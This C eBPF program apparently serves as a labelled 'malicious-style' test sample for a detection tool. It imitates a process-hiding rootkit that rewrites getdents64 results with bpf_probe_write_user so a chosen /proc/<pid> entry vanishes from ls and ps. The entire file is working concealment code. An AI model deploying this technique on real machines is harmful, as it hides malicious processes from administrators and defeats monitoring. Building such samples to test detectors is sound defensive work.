// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, imitates bad-bpf's pidhide: hides a directory entry (a
 * process's /proc/<pid>) from `ls` and `ps` by rewriting the buffer
 * getdents64 returns, so the record before the hidden one swallows it.
 *
 * The work is split across a tail-call chain through one prog array:
 *   handle_getdents_enter   remembers the caller's dirent buffer;
 *   handle_getdents_exit    starts the walk: tail call -> slot 0;
 *   handle_dirent_scan      walks a batch of records and tail-calls itself
 *                           (slot 0) for the next batch, or slot 1 when found;
 *   handle_dirent_patch     grows the previous record's d_reclen over the
 *                           hidden one with bpf_probe_write_user.
 * All but handle_dirent_patch load on any kernel; that one does not where
 * bpf_probe_write_user is unavailable (lockdown). User space fills the array.
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define SCAN_BATCH 64
#define SLOT_SCAN 0
#define SLOT_PATCH 1
#define NAME_LEN 10

/* The entry to hide, e.g. the pid of the process to conceal. */
const volatile char hide_name[NAME_LEN] = "31337";
const volatile int hide_name_len = 5;

struct walk {
	u64 buf;	/* user pointer to the dirent buffer */
	u32 total;	/* bytes getdents64 returned */
	u32 pos;	/* offset of the next record to look at */
	u32 prev;	/* offset of the record before it */
	u32 found;	/* offset of the record to hide, once found */
};

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u64);
	__type(value, struct walk);
} dirent_walks SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
	__uint(max_entries, 2);
	__type(key, u32);
	__type(value, u32);
} dirent_jumps SEC(".maps");

SEC("tracepoint/syscalls/sys_enter_getdents64")
int handle_getdents_enter(struct trace_event_raw_sys_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct walk w = { .buf = ctx->args[1] };

	bpf_map_update_elem(&dirent_walks, &id, &w, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int handle_getdents_exit(struct trace_event_raw_sys_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct walk *w = bpf_map_lookup_elem(&dirent_walks, &id);

	if (!w)
		return 0;
	if (ctx->ret <= 0) {
		bpf_map_delete_elem(&dirent_walks, &id);
		return 0;
	}
	w->total = ctx->ret;
	bpf_tail_call(ctx, &dirent_jumps, SLOT_SCAN);
	bpf_map_delete_elem(&dirent_walks, &id);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int handle_dirent_scan(struct trace_event_raw_sys_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct walk *w = bpf_map_lookup_elem(&dirent_walks, &id);
	struct linux_dirent64 *d;
	char name[NAME_LEN];
	unsigned short reclen;
	int i, j;

	if (!w)
		return 0;
	for (i = 0; i < SCAN_BATCH; i++) {
		if (w->pos >= w->total)
			break;
		d = (struct linux_dirent64 *)(w->buf + w->pos);
		if (bpf_probe_read_user(&reclen, sizeof(reclen), &d->d_reclen) < 0 || !reclen)
			break;
		if (bpf_probe_read_user_str(name, sizeof(name), d->d_name) < 0)
			break;
		for (j = 0; j < NAME_LEN; j++) {
			if (j == hide_name_len) {
				if (name[j] == 0) {
					w->found = w->pos;
					bpf_tail_call(ctx, &dirent_jumps, SLOT_PATCH);
				}
				break;
			}
			if (name[j] != hide_name[j])
				break;
		}
		w->prev = w->pos;
		w->pos += reclen;
	}
	if (w->pos < w->total)
		bpf_tail_call(ctx, &dirent_jumps, SLOT_SCAN);
	bpf_map_delete_elem(&dirent_walks, &id);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int handle_dirent_patch(struct trace_event_raw_sys_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct walk *w = bpf_map_lookup_elem(&dirent_walks, &id);
	struct linux_dirent64 *prev, *hidden;
	unsigned short prev_len = 0, hidden_len = 0, merged;

	if (!w || w->found == 0)
		goto out;
	prev = (struct linux_dirent64 *)(w->buf + w->prev);
	hidden = (struct linux_dirent64 *)(w->buf + w->found);
	bpf_probe_read_user(&prev_len, sizeof(prev_len), &prev->d_reclen);
	bpf_probe_read_user(&hidden_len, sizeof(hidden_len), &hidden->d_reclen);
	merged = prev_len + hidden_len;
	bpf_probe_write_user(&prev->d_reclen, &merged, sizeof(merged));
out:
	bpf_map_delete_elem(&dirent_walks, &id);
	return 0;
}
